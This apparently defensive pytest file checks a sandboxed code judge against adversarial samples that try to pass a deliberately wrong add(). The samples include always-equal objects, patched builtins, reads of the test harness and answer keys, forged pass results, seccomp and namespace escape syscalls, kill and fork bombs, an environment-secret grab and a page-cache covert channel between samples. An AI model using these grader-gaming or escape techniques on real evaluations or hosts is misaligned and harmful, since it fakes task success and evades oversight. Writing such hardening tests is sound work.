"""The judge against hostile code: every attack on a WRONG `add(a, b)` scores 0, honest controls score
1.0 (first, last, and right after each attack in the same worker slot), the host is unharmed, nothing
of one sample is visible to a later one, and the batch ends in bounded time.

The whole suite is one batch of two worker slots (module fixture, `schedule="round_robin"` so that
item i runs in slot i % 2, in order); each test then checks its own items. Attack code is our own.
These tests need the isolated sandbox (root, namespaces, libseccomp); where it is unavailable they are
skipped and `test_refuses_without_isolation` checks the refusal instead.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import tempfile
import textwrap
import time
from pathlib import Path

import pytest

from regimen.stages import sandbox
from regimen.stages.sandbox import Job, SandboxConfig, SandboxResult, SandboxUnavailable, run_batch, run_tests
from regimen.stages.sandbox.sample import verdict
from regimen.stages.sandbox.slot import WORKDIR
from regimen.stages.tasks.code import PROBLEMS_PATH

ISOLATED, WHY = sandbox.isolation_status()
needs_isolation = pytest.mark.skipif(not ISOLATED, reason=f"isolated sandbox unavailable: {WHY}")

TOKEN = secrets.token_hex(6)
SECRET = "s3cr3t-" + TOKEN
REPO_TESTS = os.path.dirname(os.path.abspath(__file__))
ANSWERS = os.path.join(REPO_TESTS, f".answers-{TOKEN}.json")  # a user's data file in the project folder
# where an attacker would look for answer keys on the host: the folder holding the checkout, and the home folder
HOST_FOLDERS = [os.path.dirname(os.path.dirname(REPO_TESTS)), os.path.expanduser("~")]
HOST_FILES = {
    "repo": os.path.join(REPO_TESTS, f".pwned-{TOKEN}"),
    "tmp": os.path.join(tempfile.gettempdir(), f"regimen-pwned-{TOKEN}"),
    "shm": f"/dev/shm/regimen-pwned-{TOKEN}",
    "var_tmp": f"/var/tmp/regimen-pwned-{TOKEN}",
    "root": os.path.join(os.path.expanduser("~"), f"regimen-pwned-{TOKEN}"),
}
HOST_SOCKETS = [os.path.join(tempfile.gettempdir(), f"regimen-sock-{TOKEN}")] + (
    [f"/run/regimen-sock-{TOKEN}"] if os.access("/run", os.W_OK) else []
)
TIMEOUT_S, WALL_S = 2.0, 5.0

ADD = "def add(a, b):\n    return a + b\n"
ADD_TESTS = ["assert add(1, 2) == 3", "assert add(2, 2) == 4", "assert add(0, 0) == 0"]
WRONG = "def add(a, b):\n    return a - b - 7\n"
# Every one of these fails for WRONG: an attack scores above 0 only by fooling the judge.
TESTS = ["assert add(1, 2) == 3", "assert add(2, 2) == 4", "assert add(-1, 5) == 4"]
EXPECTED = {"1,2": 3, "2,2": 4, "-1,5": 4}


def _code(src: str) -> str:
    return textwrap.dedent(src).strip() + "\n"


# An honest control: right, and it checks that nothing of an earlier sample is visible to it.
CONTROL = f"WORKDIR = {WORKDIR!r}\n" + _code("""
    import ctypes, os, socket
    def _leftovers():
        found = [p for p in os.listdir('/tmp') if p != os.path.basename(WORKDIR)]
        found += os.listdir(WORKDIR) + os.listdir('/dev/shm')
        if ctypes.CDLL(None, use_errno=True).shmget(0x5EED, 0, 0) != -1:
            found.append('sysv-shm')
        s = socket.socket(socket.AF_UNIX)
        try:
            s.connect('\\0regimen-abstract')
            found.append('abstract-socket')
        except OSError:
            pass
        return found
    LEFTOVERS = _leftovers()
    def add(a, b):
        return a + b
""")
CONTROL_TESTS = TESTS + ["assert LEFTOVERS == []"]

# What an attacker does with whatever test text it manages to find: a lookup table of answers.
LOOKUP = _code(r"""
    import re
    TABLE = {}
    def learn(text):
        if isinstance(text, (bytes, bytearray)):
            text = bytes(text).decode('latin-1')
        for a, b, c in re.findall(r'add\((-?\d+), (-?\d+)\) == (-?\d+)', text):
            TABLE[(int(a), int(b))] = int(c)
    def add(a, b):
        return TABLE.get((a, b), a - b - 7)
""")


# The reported attack: with check() stopping at its first failing assert as the signal, a sample learns
# which of its boolean answers was wrong and leaves that in the page cache of a standard-library file (a
# page cached or not: posix_fadvise to drop, a read to load), where the next sample reads it without
# timing (preadv2 with RWF_NOWAIT answers EAGAIN for a page that is not cached).
PAGE_CACHE_CHANNEL = _code("""
    import os
    FILE = os.path.join(os.path.dirname(os.__file__), 'pydoc_data', 'topics.py')
    FD = os.open(FILE, os.O_RDONLY)
    BASE = 40
    def get(i):
        try:
            return os.preadv(FD, [bytearray(1)], (BASE + i) * 4096, os.RWF_NOWAIT) > 0
        except BlockingIOError:
            return False
    def put(i, on):
        if on:
            os.pread(FD, 1, (BASE + i) * 4096)
        else:
            os.posix_fadvise(FD, (BASE + i) * 4096, 4096, os.POSIX_FADV_DONTNEED)
""")
PAGE_CACHE_ATTACK = PAGE_CACHE_CHANNEL + _code("""
    try:
        GUESS = [get(i) for i in range(4)]  # the answers learned so far
        REACHED = max([i for i in range(4) if get(8 + i)], default=-1)  # how far the last sample got
        if 0 <= REACHED < 4:
            GUESS[REACHED] = not GUESS[REACHED]  # it stopped there: that answer was wrong
            put(REACHED, GUESS[REACHED])
        for i in range(4):
            put(8 + i, False)
    except OSError:
        GUESS = [False] * 4
    def odd_bit(n):
        try:
            put(8 + n, True)  # this call happened: the one before it passed
            if n:
                put(8 + n - 1, False)
        except OSError:
            pass
        return GUESS[n]
""")
PAGE_CACHE_TESTS = [
    "def check(candidate):\n    assert candidate(0) is True\n    assert candidate(1) is False\n    assert candidate(2) "
    "is True\n    assert candidate(3) is True\n\ncheck(odd_bit)\n"
]


def attacks(port: int, pytest_pid: int) -> dict[str, Job]:
    """Attacks on the judge; each must score 0 (a job's tests all fail for a wrong add)."""
    a: dict[str, Job] = {}

    def add(name: str, code: str, tests: list[str] = TESTS, **kw) -> None:
        a[name] = Job(code, tests, **kw)

    # --- objects that compare equal to anything --------------------------------------------------
    add(
        "eq_always_true",
        WRONG
        + _code("""
        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = object.__hash__
        def add(a, b): return Anything()
    """),
    )
    add(
        "eq_int_subclass",
        _code("""
        class Int(int):
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            __hash__ = int.__hash__
        def add(a, b): return Int(a - b - 7)
    """),
    )
    add(
        "eq_truthy_object",
        _code("""
        class Yes:
            def __bool__(self): return True
        class Anything:
            def __eq__(self, other): return Yes()
            __hash__ = object.__hash__
        def add(a, b): return Anything()
    """),
    )
    add(
        "eq_float_and_str_subclass",
        _code("""
        class F(float):
            def __eq__(self, other): return True
        class S(str):
            def __eq__(self, other): return True
        def add(a, b): return F(0.5) if a != 1 else S('x')
    """),
    )
    add(
        "eq_inside_container",
        _code("""
        class Anything:
            def __eq__(self, other): return True
            __hash__ = object.__hash__
        def add(a, b): return [Anything()]
    """),
        ["assert add(1, 2) == [3]", "assert add(2, 2) == [4]", "assert add(-1, 5) == [4]"],
    )
    # --- patching what the tests use ----------------------------------------------------------------
    add(
        "patch_builtins_enumerate",
        WRONG
        + _code("""
        import builtins
        builtins.enumerate = lambda *args, **kwargs: iter(())
        builtins.zip = lambda *args, **kwargs: iter(())
    """),
        [
            "for i, (x, y, z) in enumerate([(1, 2, 3), (2, 2, 4)]):\n    assert add(x, y) == z",
            "for (x, y), z in zip([(1, 2), (-1, 5)], [3, 4]):\n    assert add(x, y) == z",
            "for i, z in enumerate([4]):\n    assert add(-1, 5) == z",
        ],
    )
    add(
        "patch_builtins_abs",
        WRONG + "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.all = lambda it: True\n",
        ["assert abs(add(1, 2) - 3) < 1e-9", "assert all([add(2, 2) == 4])", "assert abs(add(-1, 5) - 4) < 1e-9"],
    )
    add(
        "patch_math_isclose",
        WRONG + "import math\nmath.isclose = lambda *a, **k: True\n",
        [
            "import math\nassert math.isclose(add(1, 2), 3)",
            "import math\nassert math.isclose(add(2, 2), 4)",
            "from math import isclose\nassert isclose(add(-1, 5), 4)",
        ],
    )
    add(
        "patch_namespace_builtins",
        WRONG
        + _code("""
        import builtins
        __builtins__ = dict(vars(builtins), abs=lambda x: 0, len=lambda x: 3, __import__=lambda *a, **k: None)
        globals()['__builtins__'] = __builtins__
    """),
        [
            "assert abs(add(1, 2) - 3) < 1e-9",
            "assert len(str(add(2, 2))) == 1 and add(2, 2) == 4",
            "assert abs(add(-1, 5) - 4) == 0",
        ],
    )
    add(
        "patch_sys_modules",
        WRONG
        + _code("""
        import sys, types
        fake = types.ModuleType('math')
        fake.isclose = lambda *a, **k: True
        sys.modules['math'] = fake
    """),
        [
            "import math\nassert math.isclose(add(1, 2), 3)",
            "import math\nassert math.isclose(add(2, 2), 4)",
            "import math\nassert math.isclose(add(-1, 5), 4)",
        ],
    )
    add(
        "define_abs_top_level",
        WRONG + "def abs(x):\n    return 0\ndef all(it):\n    return True\n",
        ["assert abs(add(1, 2) - 3) < 1e-9", "assert all([add(2, 2) == 4])", "assert abs(add(-1, 5) - 4) < 1e-9"],
    )
    add(
        "define_isclose_top_level",
        WRONG + "def isclose(*args, **kwargs):\n    return True\n",
        ["assert isclose(add(1, 2), 3)", "assert isclose(add(2, 2), 4)", "assert isclose(add(-1, 5), 4)"],
        setup="from math import isclose\n",
    )
    add(
        "import_patched_isclose",
        WRONG + "import math\nmath.isclose = lambda *a, **k: True\nfrom math import isclose\n",
        ["assert isclose(add(1, 2), 3)", "assert isclose(add(2, 2), 4)", "assert isclose(add(-1, 5), 4)"],
        entry_point="add",
    )
    add(
        "helper_and_data_with_entry_point",
        WRONG + "def isclose(*a, **k):\n    return True\nEXPECTED = -8\n",
        ["assert isclose(add(1, 2), 3)", "assert add(2, 2) == EXPECTED + 1", "assert add(-1, 5) == EXPECTED"],
        entry_point="add",
    )
    add(
        "shadow_setup_helper",
        WRONG + "def check(x):\n    return True\n",
        ["assert check(add(1, 2))", "assert check(add(2, 2))", "assert check(add(-1, 5))"],
        setup="def check(value):\n    return value in (3, 4)\n",
    )
    # --- reaching the harness -------------------------------------------------------------------------
    add(
        "frame_walk",
        _code("""
        import sys, os
        def _rewrite(v):
            if isinstance(v, list) and v and all(isinstance(t, str) for t in v):
                v[:] = ['pass'] * len(v)
            elif isinstance(v, dict):
                for w in list(v.values()):
                    if isinstance(w, list):
                        _rewrite(w)
        def add(a, b):
            f = sys._getframe()
            while f is not None:
                for scope in (f.f_locals, f.f_globals):
                    for k, v in list(scope.items()):
                        _rewrite(v)
                        if k in ('tests', 'nonce', 'emit', 'results'):
                            scope[k] = None
                f = f.f_back
            for fd in range(64):
                try:
                    os.write(fd, b'pass 0\\npass 1\\npass 2\\ndone 3\\n')
                except OSError:
                    pass
            return a - b - 7
    """),
    )
    add(
        "gc_scan",
        LOOKUP
        + _code("""
        import gc
        def _scan():
            for obj in gc.get_objects():
                try:
                    if isinstance(obj, list):
                        for i, t in enumerate(obj):
                            if isinstance(t, str) and 'assert' in t:
                                learn(t)
                                obj[i] = 'pass'
                    elif isinstance(obj, dict):
                        for k, v in list(obj.items()):
                            if isinstance(v, str):
                                learn(v)
                except Exception:
                    pass
        _scan()
        _add = add
        def add(a, b):
            _scan()
            return _add(a, b)
    """),
    )
    add(
        "signal_frame",
        LOOKUP
        + _code("""
        import signal, time
        def handler(signum, frame):
            while frame is not None:
                for scope in (frame.f_locals, frame.f_globals):
                    for k, v in list(scope.items()):
                        if isinstance(v, (str, bytes)):
                            learn(v)
                        elif isinstance(v, list):
                            for t in v:
                                if isinstance(t, str):
                                    learn(t)
                frame = frame.f_back
        signal.signal(signal.SIGALRM, handler)
        signal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)
        _add = add
        def add(a, b):
            time.sleep(0.01)
            return _add(a, b)
    """),
    )
    add(
        "ctypes_memory_scan",
        LOOKUP
        + _code("""
        import ctypes
        def _scan():
            with open('/proc/self/maps') as f:
                regions = [line.split() for line in f]
            budget = 256 << 20
            for fields in regions:
                lo, hi = (int(x, 16) for x in fields[0].split('-'))
                if 'r' not in fields[1] or hi - lo > budget or (len(fields) > 5 and fields[5].startswith('[v')):
                    continue
                budget -= hi - lo
                try:
                    data = ctypes.string_at(lo, hi - lo)
                except Exception:
                    continue
                learn(data)
                at = data.find(b'assert add(')
                if at >= 0 and 'w' in fields[1]:
                    ctypes.memmove(lo + at, b'pass  #', 7)
        _scan()
        _add = add
        def add(a, b):
            if not TABLE:
                _scan()
            return _add(a, b)
    """),
    )
    add(
        "settrace_setprofile",
        LOOKUP
        + _code("""
        import sys, threading
        def _peek(frame):  # the caller's constants: in an in-process harness, the test's own numbers
            caller = frame.f_back
            while caller is not None:
                ints = [c for c in caller.f_code.co_consts if type(c) is int]
                if len(ints) >= 3:
                    TABLE[(ints[0], ints[1])] = ints[2]
                caller = caller.f_back
        def tracer(frame, event, arg):
            if event == 'call' and frame.f_code.co_name == 'add':
                _peek(frame)
            return None
        def profiler(frame, event, arg):
            if event == 'call' and frame.f_code.co_name == 'add':
                _peek(frame)
        sys.settrace(tracer)
        threading.settrace(tracer)
        sys.setprofile(profiler)
    """),
    )
    add(
        "patch_channel",
        WRONG
        + _code("""
        import os, sys
        forged = lambda fd, *args, **kwargs: os.write(fd, b'\\x00\\x00\\x00\\x01T' + b'loaded\\npass 0\\npass 1\\npass 2\\ndone 3\\n')
        for module in list(sys.modules.values()):
            for name in ('send', 'send_encoded'):
                if hasattr(module, name) and hasattr(module, 'MAX_BYTES'):
                    setattr(module, name, forged)
            if hasattr(module, 'serve') and hasattr(module, '_report'):
                module.send = module.send_encoded = forged
    """),
    )
    # --- reading the tests, answering from a lookup table -------------------------------------------
    add(
        "read_tests_everywhere",
        LOOKUP
        + _code("""
        import os, glob
        import stat
        def _hunt():
            for path in glob.glob('/proc/*/cmdline') + glob.glob('/proc/*/environ') + glob.glob('/proc/*/fd/*') + glob.glob('/tmp/**', recursive=True):
                try:
                    if stat.S_ISREG(os.stat(path).st_mode) or path.startswith('/proc/') and not '/fd/' in path:
                        with open(path, 'rb') as f:
                            learn(f.read(1 << 20))
                except OSError:
                    pass
            for pid in os.listdir('/proc'):
                if pid.isdigit():
                    try:
                        with open(f'/proc/{pid}/mem', 'rb') as f:
                            learn(f.read(1 << 16))
                    except OSError:
                        pass
            for fd in range(256):
                try:
                    os.lseek(fd, 0, 0)
                except OSError:
                    pass
                try:
                    os.set_blocking(fd, False)
                    learn(os.read(fd, 1 << 20))
                except OSError:
                    pass
        _hunt()
    """),
    )
    add(
        "process_vm_readv_judge",
        LOOKUP
        + _code("""
        import ctypes, os
        libc = ctypes.CDLL(None, use_errno=True)
        class iovec(ctypes.Structure):
            _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
        buf = ctypes.create_string_buffer(1 << 16)
        local = iovec(ctypes.cast(buf, ctypes.c_void_p), 1 << 16)
        for pid in range(1, 64):
            if pid == os.getpid():
                continue
            try:
                with open(f'/proc/{pid}/maps') as f:
                    regions = [l.split()[0] for l in f if 'rw' in l]
            except OSError:
                regions = ['400000-401000']
            for r in regions:
                lo = int(r.split('-')[0], 16)
                remote = iovec(lo, 1 << 16)
                if libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0) > 0:
                    learn(buf.raw)
            try:
                os.kill(pid, 9)
            except OSError:
                pass
    """),
    )
    # --- reading the answer key ---------------------------------------------------------------------
    add(
        "read_answer_key",
        LOOKUP
        + _code(f"""
        import glob, json, os
        for path in [{str(PROBLEMS_PATH)!r}, {ANSWERS!r}] + [g for top in {HOST_FOLDERS!r} for g in glob.glob(top + '/**/*.json*', recursive=True)] + glob.glob('/home/**/*', recursive=True) + glob.glob('/srv/**', recursive=True) + glob.glob('/opt/**/*.json*', recursive=True):
            try:
                with open(path) as f:
                    text = f.read()
            except OSError:
                continue
            try:
                for key, value in json.loads(text).items():
                    x, y = key.split(',')
                    TABLE[(int(x), int(y))] = value
            except Exception:
                learn(text)
    """),
    )
    # --- forging results on any fd --------------------------------------------------------------------
    add(
        "forge_results_every_fd",
        WRONG
        + _code("""
        import os, sys
        lines = b'loaded\\npass 0\\npass 1\\npass 2\\ndone 3\\njudge-exit 0\\n'
        for fd in range(1024):
            try:
                os.write(fd, lines)
            except OSError:
                pass
        for path in os.listdir('/proc/self/fd'):
            try:
                with open('/proc/self/fd/' + path, 'wb') as f:
                    f.write(lines)
            except OSError:
                pass
        sys.exit(0)
    """),
    )
    add(
        "forge_infra",
        WRONG
        + _code("""
        import os
        for fd in range(1024):
            try:
                os.write(fd, b'infra the sandbox broke\\n')
            except OSError:
                pass
        os._exit(3)
    """),
    )
    add(
        "forge_frames_on_socket",
        WRONG
        + _code("""
        import os, struct, sys
        wire = [m for m in sys.modules.values() if hasattr(m, 'send') and hasattr(m, 'MAX_BYTES')][0]
        for fd in range(3, 16):
            try:
                wire.send(fd, ('ready', [('add', 'data', wire.encode(3))]))
                wire.send(fd, ('ok', 3))
                wire.send(fd, ('ok', 4))
            except OSError:
                pass
    """),
    )
    # --- exceptions the judge must not turn into passes ------------------------------------------------
    add(
        "stop_iteration",
        "def add(a, b):\n    raise StopIteration\n",
        [
            "assert all(map(lambda p: add(*p) == sum(p), [(1, 2), (2, 2)]))",
            "assert list(map(lambda p: add(*p), [(1, 2)])) == [3]",
            "assert all(add(x, y) == x + y for x, y in [(-1, 5)])",
        ],
    )
    add(
        "forged_exception_names",
        WRONG
        + _code("""
        import sys
        wire = [m for m in sys.modules.values() if hasattr(m, 'send_encoded') and hasattr(m, 'MAX_BYTES')][0]
        _encode = wire.encode
        def encode(value, *args, **kwargs):  # every answer becomes a raise of what would end the test's loop
            if type(value) is tuple and value and value[0] == 'ok':
                value = ('raise', ['StopIteration', 'GeneratorExit', 'SystemExit', 'KeyboardInterrupt', 'StopAsyncIteration', 'BaseException', 'Exception'], '')
            return _encode(value, *args, **kwargs)
        wire.encode = encode
    """),
        [
            "assert all(map(lambda p: add(*p) == sum(p), [(1, 2), (2, 2)]))",
            "assert list(map(lambda p: add(*p), [(1, 2)])) == [3]",
            "assert all(add(x, y) == x + y for x, y in [(-1, 5)])",
        ],
    )
    add(
        "frame_over_limit",
        _code("""
        import os, struct
        def add(a, b):  # right answers, after a frame header over the limit: a judge that read on would pass them
            os.write(3, struct.pack('>I', (8 << 20) + 1) + b'\\x00\\x00\\x00\\x05t\\x00\\x00\\x00\\x02')
            return a + b
    """),
    )
    add("exit_inside_call", "def add(a, b):\n    raise SystemExit(0)\n", TESTS)
    add("keyboard_interrupt_inside_call", "def add(a, b):\n    raise KeyboardInterrupt\n", TESTS)
    # --- return values that are not plain data ----------------------------------------------------------
    add(
        "return_generator",
        "def add(a, b):\n    yield a - b - 7\n",
        ["assert list(add(1, 2)) == [3]", "assert next(add(2, 2)) == 4", "assert [*add(-1, 5)] == [4]"],
    )
    add(
        "return_huge",
        "def add(a, b):\n    return 'x' * (10 << 20) if a else 0\n",
        ["assert len(add(1, 2)) == 10 << 20", "assert add(2, 2) == 'x' * (10 << 20)", "assert add(-1, 5)"],
    )
    add(
        "return_deep",
        "def add(a, b):\n    x = a + b\n    for _ in range(500):\n        x = [x]\n    return x\n",
        ["x = add(1, 2)\nwhile isinstance(x, list):\n    x = x[0]\nassert x == 3"] * 3,
    )
    # --- the old families: early exits, runaway code, bombs, output, escapes --------------------------------
    add("sys_exit_top", WRONG + "import sys\nsys.exit(0)\n")
    add("os_exit_top", ADD + "import os\nos._exit(0)\n")
    add(
        "atexit_forge",
        ADD
        + _code("""
        import atexit, os, sys
        atexit.register(lambda: print('PASSED 3/3'))
        atexit.register(lambda: [os.write(fd, b'pass 0\\npass 1\\npass 2\\ndone 3\\n') for fd in range(3, 16) if not os.set_blocking(fd, False)])
        sys.exit(0)
    """),
    )
    add("infinite_loop", "while True:\n    pass\n")
    add("sleep_forever", "import time\ntime.sleep(3600)\n")
    add("loop_in_test", "def add(a, b):\n    while True:\n        pass\n")
    add(
        "fork_bomb",
        _code("""
        import os
        while True:
            try:
                os.fork()
            except OSError:
                pass
    """),
    )
    add("memory_bomb", "x = bytearray(8 << 30)\n" + ADD)
    add("memory_bomb_grow", "chunks = []\nwhile True:\n    chunks.append(bytearray(16 << 20))\n")
    add(
        "memory_bomb_forked",
        _code("""
        import os
        def grab():
            kids = []
            for _ in range(6):
                pid = os.fork()
                if pid == 0:
                    block = bytearray(150 << 20)
                    for i in range(0, len(block), 4096):
                        block[i] = 1
                    os._exit(0)
                kids.append(pid)
            return sum(os.waitpid(p, 0)[1] == 0 for p in kids)
    """),
        ["assert grab() == 6"],
    )
    add("huge_output", "while True:\n    print('x' * 10000)\n")
    add(
        "write_outside",
        _code(f"""
        def write_all():
            ok = 0
            for path in {[HOST_FILES["repo"], HOST_FILES["root"], HOST_FILES["var_tmp"]]!r}:
                try:
                    with open(path, 'w') as f:
                        f.write('pwned')
                    ok += 1
                except OSError:
                    pass
            return ok
    """),
        ["assert write_all() >= 1"],
    )
    add(
        "network",
        _code(f"""
        import socket
        def leak():
            s = socket.create_connection(('127.0.0.1', {port}), timeout=1)
            s.sendall(b'leaked')
            return True
    """),
        ["assert leak()"],
    )
    add(
        "host_unix_sockets",
        _code(f"""
        import glob, os, socket, stat
        def reach():
            found = 0
            for path in {HOST_SOCKETS!r} + glob.glob('/run/**', recursive=True) + glob.glob('/var/run/**', recursive=True) + glob.glob('/tmp/**', recursive=True):
                try:
                    if not stat.S_ISSOCK(os.stat(path).st_mode):
                        continue
                    s = socket.socket(socket.AF_UNIX)
                    s.settimeout(1)
                    s.connect(path)
                    s.sendall(b'leaked')
                    found += 1
                except OSError:
                    pass
            return found
    """),
        ["assert reach() > 0"],
    )
    add(
        "escape_syscalls",
        _code("""
        import ctypes, os, socket
        libc = ctypes.CDLL(None, use_errno=True)
        def escaped():
            done = []
            if libc.unshare(0x10000000) == 0: done.append('userns')
            if libc.unshare(0x00020000) == 0: done.append('mountns')
            if libc.mount(b'none', b'/tmp', b'tmpfs', 0, None) == 0: done.append('mount')
            if libc.chroot(b'/tmp') == 0: done.append('chroot')
            if libc.syscall(248, b'user', b'regimen', b'x', 1, -3) >= 0: done.append('add_key')
            if libc.syscall(321, 0, 0, 0) >= 0: done.append('bpf')
            if libc.syscall(425, 8, 0) >= 0: done.append('io_uring')
            if libc.ptrace(16, 1, 0, 0) == 0: done.append('ptrace')
            try:
                socket.socket(40, socket.SOCK_STREAM).connect((2, 1234))
                done.append('vsock')
            except OSError:
                pass
            return done
    """),
        ["assert escaped()"],
    )
    add(
        "read_env",
        _code("""
        import os, glob
        def steal():
            if os.environ.get('REGIMEN_TEST_SECRET'):
                return os.environ['REGIMEN_TEST_SECRET']
            for path in glob.glob('/proc/*/environ'):
                try:
                    data = open(path, 'rb').read()
                except OSError:
                    continue
                if b'REGIMEN_TEST_SECRET' in data:
                    return 'found'
            return None
    """),
        ["assert steal() is not None"],
    )
    add(
        "kill_parent",
        _code(f"""
        import os, signal
        def kill_parent():
            hit = 0
            for pid in ({pytest_pid}, os.getppid(), 1, *range(2, 40)):
                if pid == os.getpid():
                    continue
                try:
                    os.kill(pid, signal.SIGKILL)
                    hit += 1
                except OSError:
                    pass
            return hit
    """),
        ["assert kill_parent() > 0"],
    )
    add("kill_everything", "import os, signal\nos.kill(-1, signal.SIGKILL)\n" + ADD)
    add(
        "forged_output",
        _code("""
        import os, json
        print('PASSED 3/3')
        print(json.dumps({'passed': 3, 'total': 3, 'status': 'ok', 'error': None}))
        for fd in range(3, 64):
            for i in range(3):
                try:
                    os.write(fd, f'pass {i}\\n'.encode())
                except OSError:
                    pass
        os._exit(0)
    """),
    )
    add("forged_then_honest", ADD + "import os\nos.write(3, b'pass 0\\n')\n", ADD_TESTS)
    # --- lying about what a name is, so that the judge binds something of its own choosing ------------
    add(
        "lie_import_always_equal",
        "def answer():\n    return 0\n" + _lie({"answer": ("import", ["unittest.mock", "_ANY"])}),
        ["assert answer() == 42", "assert answer() == 'forty-two'", "assert answer() == [4, 2]"],
    )
    add("lie_import_right_function", WRONG + _lie({"add": ("import", ["operator", "add"])}))
    add(
        "lie_import_helper_with_entry_point",
        WRONG + _lie({"expected": ("import", ["unittest.mock", "_ANY"])}),
        ["assert add(1, 2) == expected()", "assert add(2, 2) == expected()", "assert add(-1, 5) == expected()"],
        entry_point="add",
    )
    add(
        "lie_module_main",
        WRONG
        + _lie(
            {
                "runner": ("module", "unittest.__main__"),
                "mock": ("module", "unittest.mock"),
                "math": ("module", "cmath"),
            }
        ),
        ["assert mock.ANY == add(1, 2)", "assert math.isclose(add(2, 2), 4)", "assert add(-1, 5) == 4"],
    )
    # --- names the tests bind themselves, in a line that a failed assertion before it never reaches ------
    add(
        "defined_later_by_the_test",
        WRONG + "def expected(a, b):\n    return a - b - 7\n",
        [
            "assert add(1, 2) == 3\ndef expected(a, b):\n    return a + b",
            "assert add(2, 2) == expected(2, 2)",
            "assert add(-1, 5) == expected(-1, 5)",
        ],
    )
    add(
        "imported_later_by_the_test",
        WRONG + "def isclose(*args, **kwargs):\n    return True\n",
        [
            "assert add(1, 2) == 3\nfrom math import isclose",
            "assert isclose(add(2, 2), 4)",
            "assert isclose(add(-1, 5), 4)",
        ],
    )
    # --- starving the judge's trusted set-up, to turn a 0 into "infra" (no score) ----------------------------
    add(
        "starve_the_judges_setup",
        WRONG
        + f"WORKDIR = {WORKDIR!r}\n"
        + _code("""
        import os, time
        for path in ('/dev/shm/fill', WORKDIR + '/fill'):
            try:
                with open(path, 'wb') as f:
                    while True:
                        f.write(b'x' * (1 << 20))
            except OSError:
                pass
        for _ in range(40):
            try:
                if os.fork() == 0:
                    try:
                        block = bytearray(240 << 20)
                        for i in range(0, len(block), 4096):
                            block[i] = 1
                    except MemoryError:
                        pass
                    time.sleep(30)
                    os._exit(0)
            except OSError:
                break
    """),
        setup=_code("""
        import time
        time.sleep(0.3)  # the solution's hogs are up by now
        import difflib, csv, pprint, zipfile, tarfile, email.message, xml.dom.minidom, html.parser, argparse, logging
        BIG = bytearray(150 << 20)
        for i in range(0, len(BIG), 4096):
            BIG[i] = 1
    """),
    )
    # --- the syscall filter through the other system call ABIs (i386 `int 0x80`, x32) ----------------------
    add(
        "seccomp_other_abis",
        _code("""
        import ctypes, mmap, os
        libc = ctypes.CDLL(None, use_errno=True)
        def _run(code):
            buf = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
            buf.write(code)
            return ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(buf)))()
        def _attempt(kind):  # keyctl(KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING): a keyring id if allowed
            r, w = os.pipe()
            pid = os.fork()
            if pid == 0:
                if kind == 'int80':  # mov eax, 288; xor ebx, ebx; mov ecx, -4; xor edx, edx; int 0x80; ret
                    v = _run(bytes.fromhex('b820010000' '31db' 'b9fcffffff' '31d2' 'cd80' 'c3'))
                else:
                    v = libc.syscall(0x40000000 | 250, 0, -4, 0)
                os.write(w, str(v).encode())
                os._exit(0)
            os.close(w)
            out = os.read(r, 64)
            os.waitpid(pid, 0)
            return int(out) if out else None
        def escaped():
            return [k for k in ('int80', 'x32') if (_attempt(k) or 0) > 0]
    """),
        ["assert escaped()"],
    )
    # --- a slow channel between samples: the host's page cache of a read-only standard-library file --------
    for k in range(12):  # one fixed wrong text, twelve samples of one prompt, as in the reported attack
        add(f"page_cache_channel_{k}", PAGE_CACHE_ATTACK, PAGE_CACHE_TESTS)
    return a


def _lie(claims: dict) -> str:
    """Code that makes the solution's process describe its names as `claims` says ({name: (kind, value)})
    instead of as they are, so that the judge would bind what the solution chose, not what it has."""
    return _code(f"""
        import sys
        _callee = [m for m in sys.modules.values() if hasattr(m, '_report') and hasattr(m, 'serve')][0]
        _report = _callee._report
        CLAIMS = {claims!r}
        _callee._report = lambda ns: [r for r in _report(ns) if r[0] not in CLAIMS] + [(n, k, v) for n, (k, v) in CLAIMS.items()]
    """)


def specials() -> dict[str, Job]:
    """Items that must score exactly 1.0 (they do their part honestly) or that set up a later check."""
    return {
        "persist_writer": Job(
            f"WORKDIR = {WORKDIR!r}\n"
            + _code("""
            import ctypes, os, socket, time, errno
            libc = ctypes.CDLL(None, use_errno=True)
            def _write():
                wrote = []
                for path in (os.path.join(os.sep, 'tmp', 'left-behind'), WORKDIR + '/left-behind', os.path.join(os.sep, 'dev', 'shm', 'left-behind')):  # the shared places, as the sample sees them
                    with open(path, 'w') as f:
                        f.write('from an earlier sample')
                    wrote.append(path)
                if libc.shmget(0x5EED, 4096, 0o1666) != -1:
                    wrote.append('sysv-shm')
                key = libc.syscall(248, b'user', b'regimen-left-behind', b'x', 1, -3)
                if os.fork() == 0:  # a daemon holding an abstract socket
                    os.setsid()
                    s = socket.socket(socket.AF_UNIX)
                    s.bind('\\0regimen-abstract')
                    s.listen(1)
                    time.sleep(60)
                    os._exit(0)
                time.sleep(0.1)
                return wrote, key, ctypes.get_errno()
            WROTE, KEY, KEY_ERRNO = _write()
            def add(a, b):
                return a + b
        """),
            TESTS + ["assert len(WROTE) == 4", "import errno\nassert KEY == -1 and KEY_ERRNO == errno.EPERM"],
        ),
        "env_is_minimal": Job(
            "import os\nENV = sorted(os.environ)\nUID = os.getuid()\nROOT = sorted(os.listdir('/'))\n",
            [
                "assert set(ENV) <= {'PATH', 'HOME', 'TMPDIR', 'LANG'}",
                "import os\nassert UID != 0 and UID != os.getuid()",
                "assert set(ROOT) <= {'dev', 'etc', 'lib', 'lib64', 'proc', 'root', 'tmp', 'usr'}, ROOT",
            ],
        ),
        "write_scratch": Job(
            _code(f"""
            def write_scratch():
                for path in {[HOST_FILES["tmp"], HOST_FILES["shm"]]!r}:
                    with open(path, 'w') as f:
                        f.write('only in the sandbox')
                return True
        """),
            ["assert write_scratch()"],
        ),
        "daemon_left_behind": Job(
            ADD
            + _code("""
            import os, time
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    time.sleep(60)
                os._exit(0)
        """),
            ADD_TESTS,
        ),
